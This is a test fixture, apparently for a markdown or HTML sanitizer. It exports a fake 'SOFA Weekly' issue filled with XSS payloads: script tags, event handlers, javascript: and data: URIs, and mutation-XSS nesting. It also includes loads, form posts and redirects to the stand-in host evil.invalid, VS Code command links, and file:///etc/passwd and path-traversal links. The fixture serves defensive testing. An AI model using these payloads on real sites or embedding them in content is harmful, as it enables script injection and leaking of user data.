/** An issue that tries all it can to run, load, redirect or submit something. Whatever succeeds sets `window.harmed` or asks evil.invalid. */
export const hostileIssue = `---
title: "<img src=x onerror='window.harmed=1'>SOFA Weekly"
author: "<script>window.harmed=1</script>"
authorlink: "javascript:window.harmed=1"
tags: ["SOFA Weekly", "\\"><svg onload=window.harmed=1>"]
date: 2021-04-02
---

<script>window.harmed = 1</script>
<script src="https://evil.invalid/script.js"></script>

<img src="x" onerror="window.harmed=1">

<img src="https://localhost:1/x.png" srcset="https://evil.invalid/srcset.png 2x" onload="window.harmed=1">

<svg onload="window.harmed=1"><script>window.harmed=1</script></svg>

<iframe srcdoc="<script>parent.harmed=1</script>"></iframe>
<iframe src="https://evil.invalid/frame.html"></iframe>

<style>@import url("https://evil.invalid/style.css"); * { background: url("https://evil.invalid/background.png"); }</style>
<link rel="stylesheet" href="https://evil.invalid/link.css">

<base href="https://evil.invalid/">
<meta http-equiv="refresh" content="0; url=https://evil.invalid/refresh">

<form action="https://evil.invalid/form"><input name="a" autofocus onfocus="window.harmed=1"><button>send</button></form>

<p style="background: url(https://evil.invalid/attribute.png)" onclick="window.harmed=1">styled</p>

<video src="https://evil.invalid/video.mp4" poster="https://evil.invalid/poster.png" onerror="window.harmed=1"></video>
<audio src="https://evil.invalid/audio.mp3"></audio>
<object data="https://evil.invalid/object"></object>
<embed src="https://evil.invalid/embed">

<details open ontoggle="window.harmed=1"><summary>more</summary>text</details>

<math><mtext><table><mglyph><style><img src=x onerror=window.harmed=1></style></mglyph></table></mtext></math>

<a href="javascript:window.harmed=1">script</a>
<a href="JaVaScRiPt&colon;window.harmed=1">script in disguise</a>
<a href="command:workbench.action.closeAllEditors">command</a>
<a href="vscode:extension/evil.evil">vscode</a>
<a href="vscode-insiders://evil.evil/x">insiders</a>
<a href="file:///etc/passwd">file</a>
<a href="data:text/html,<script>window.harmed=1</script>">data</a>

[script](javascript:window.harmed=1) [command](command:workbench.action.closeAllEditors) [vscode](vscode:extension/evil.evil)
[file](file:///etc/passwd) [data](data:text/html;base64,PHNjcmlwdD4=) [up](../../../../../../etc/passwd.md)

![x](javascript:window.harmed=1) ![x](http://evil.invalid/image.png) ![x](\\\\\\\\evil.invalid\\share.png)

The end of the hostile issue

`;
